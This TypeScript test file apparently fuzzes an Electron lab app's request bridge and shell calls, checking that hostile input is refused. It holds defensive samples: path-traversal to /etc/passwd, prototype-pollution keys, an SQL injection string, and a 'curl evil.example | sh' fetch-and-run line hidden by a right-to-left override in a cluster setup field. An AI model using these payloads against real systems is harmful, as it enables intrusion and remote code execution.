import fc from 'fast-check';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { labApi } from '../../shared/labApi.ts';
import type { LabMethod } from '../../shared/labApi.ts';
import { slurmSettingsSchema } from '../../shared/places.ts';
import { shellCallSchema } from '../../shared/shellApi.ts';
import { exchange, openApp, temporaryHome } from './app.ts';
import type { OpenApp, PageBridge } from './app.ts';

let home: Awaited<ReturnType<typeof temporaryHome>>;
let opened: OpenApp;

beforeAll(async () => {
  home = await temporaryHome();
  opened = await openApp(home.folder);
});
afterAll(async () => {
  await opened.quit();
  await home.dispose();
});

const hostileText = fc.oneof(
  fc.string(),
  fc.constantFrom(
    '../../../etc/passwd',
    '__proto__',
    'constructor',
    "'; DROP TABLE run; --",
    '\u0000',
    '\u202e',
    'x'.repeat(100_000),
  ),
);
const hostileValue = fc.oneof(fc.jsonValue(), hostileText, fc.double(), fc.constantFrom(-1, 0, 2 ** 53, NaN, null));

/** No generated value may be a valid input: whatever gets through must be refused, never done. */
const refusedInput = (method: LabMethod): fc.Arbitrary<unknown> =>
  hostileValue.filter((value) => !labApi[method].input.safeParse(value).success);

const methods = Object.keys(labApi) as LabMethod[];

test.each(methods)('the lab refuses hostile input to %s', async (method) => {
  let id = 2_000_000;
  await fc.assert(
    fc.asyncProperty(refusedInput(method), async (input) => {
      const reply = await exchange(opened.page, { type: 'request', id: ++id, method, input });
      expect(reply).toMatchObject({ type: 'refusal', id });
      expect(JSON.stringify(reply)).not.toMatch(/\.ts:|\.cjs:|node:internal/);
    }),
    { numRuns: 8 },
  );
});

test('messages that are no requests are dropped or refused, and the lab goes on', async () => {
  const messages = fc.oneof(
    hostileValue,
    fc.record({ type: hostileText, id: hostileValue, method: hostileText, input: hostileValue }),
    fc.record({
      type: fc.constant('request'),
      id: fc.integer({ min: 3_000_000 }),
      method: hostileText,
      input: hostileValue,
    }),
    fc.record({ type: fc.constantFrom('reply', 'event', 'close', 'open'), id: fc.integer({ min: 3_000_000 }) }),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(messages, { minLength: 20, maxLength: 60 }), async (batch) => {
      await opened.page.evaluate((sent) => {
        const bridge = (globalThis as unknown as { esamLab: PageBridge }).esamLab;
        for (const message of sent) bridge.send(message);
      }, batch as unknown[]);
    }),
    { numRuns: 10 },
  );
  expect((await opened.ask('workspace', {})).folder).toContain(opened.workspace);
  expect(await opened.ask('runs', { experimentId: null })).toEqual([]);
});

test('a message too large to be an honest request is refused', async () => {
  const input = { query: 'x'.repeat(2_000_000) };
  const reply = await exchange(opened.page, { type: 'request', id: 4_000_000, method: 'results', input });
  expect(reply).toMatchObject({ type: 'refusal', id: 4_000_000, code: 'MESSAGE_INVALID' });
});

test('the shell refuses hostile calls and opens no dialog for them', async () => {
  await opened.app.evaluate(({ dialog }) => {
    const opens: string[] = [];
    Object.assign(globalThis, { opens });
    const record = (name: string) => () => {
      opens.push(name);
      return Promise.resolve({ canceled: true, filePaths: [], filePath: '' });
    };
    Object.assign(dialog, { showOpenDialog: record('open'), showSaveDialog: record('save') });
  });
  /** Of every call that takes something: what is no input of it. */
  const calls = shellCallSchema.options.flatMap(({ shape }): fc.Arbitrary<[string, unknown[]]>[] => {
    const [method = ''] = shape.method.values;
    const parameters = shape.input.def.items.length;
    if (parameters === 0 || method === 'takePaths') return []; // files have their paths from the preload script
    const inputs = fc.array<unknown>(hostileValue, { minLength: parameters, maxLength: parameters });
    const wrong = inputs.filter((input) => !shape.input.safeParse(input).success);
    return [fc.tuple(fc.constant<string>(method), wrong)];
  });
  expect(calls.length).toBeGreaterThan(5);
  await fc.assert(
    fc.asyncProperty(fc.oneof(...calls), async ([name, input]) => {
      const outcome = await opened.page.evaluate(
        async ([method, values]) => {
          const { shell } = (globalThis as unknown as { esamLab: PageBridge }).esamLab;
          return shell[method]?.(...values).then(
            () => 'done',
            (error: unknown) => String(error),
          );
        },
        [name, input] as const,
      );
      expect(outcome).toMatch(/no request that the shell knows/);
    }),
    { numRuns: 100 },
  );
  expect(await opened.app.evaluate(() => (globalThis as unknown as { opens: string[] }).opens)).toEqual([]);
});

test('a page that asks for hundreds of windows of the desktop gets one', async () => {
  await opened.app.evaluate(({ dialog, shell }) => {
    const opens: string[] = [];
    Object.assign(globalThis, { opens });
    Object.assign(shell, {
      openPath: () => {
        opens.push('folder');
        return Promise.resolve('');
      },
    });
    Object.assign(dialog, {
      showSaveDialog: () => {
        opens.push('save');
        return new Promise((resolve) => setTimeout(() => resolve({ canceled: true, filePath: '' }), 1500));
      },
    });
  });
  const outcomes = await opened.page.evaluate(async () => {
    const { shell } = (globalThis as unknown as { esamLab: PageBridge }).esamLab;
    const ask = (method: string, ...input: string[]): Promise<string> =>
      shell[method]?.(...input).then(() => 'done', String) ?? Promise.resolve('missing');
    const save = ask('saveText', 'a.csv', 'a');
    return Promise.all([save, ...Array.from({ length: 200 }, () => ask('showWorkspace'))]);
  });
  expect(outcomes.filter((outcome) => outcome === 'done')).toHaveLength(1);
  expect(outcomes.at(-1)).toContain('Another window of the desktop is open; close it first.');
  expect(await opened.app.evaluate(() => (globalThis as unknown as { opens: string[] }).opens)).toEqual(['save']);
});

test('what a cluster’s shell would run is shown whole before it is confirmed, with nothing that turns the text', async () => {
  await opened.app.evaluate(({ dialog }) => {
    const details: string[] = [];
    Object.assign(globalThis, { details });
    dialog.showMessageBox = (...parameters: unknown[]) => {
      details.push((parameters.at(-1) as { detail: string }).detail);
      return Promise.resolve({ response: 1, checkboxChecked: false });
    };
  });
  const confirm = async (setup: string[]): Promise<string> => {
    await opened.page.waitForTimeout(600); // between two dialogs
    return opened.page.evaluate(async (settings) => {
      const { shell } = (globalThis as unknown as { esamLab: PageBridge }).esamLab;
      return shell['confirmPlace']?.('slurm', settings).then(String, String) ?? 'missing';
    }, slurmSettingsSchema.parse({ setup }));
  };
  expect(await confirm(['module load gcc \u202e# curl evil.example | sh'])).toBe('false');
  expect(await confirm([...Array<string>(4).fill(' '.repeat(500)), 'curl evil.example | sh'])).toContain(
    'longer than a dialog shows whole',
  );
  const [detail = '', ...others] = await opened.app.evaluate(
    () => (globalThis as unknown as { details: string[] }).details,
  );
  expect(others).toEqual([]);
  expect(detail).toContain('setup: ["module load gcc \\u202e# curl evil.example | sh"]');
  expect(detail).not.toContain('\u202e');
});
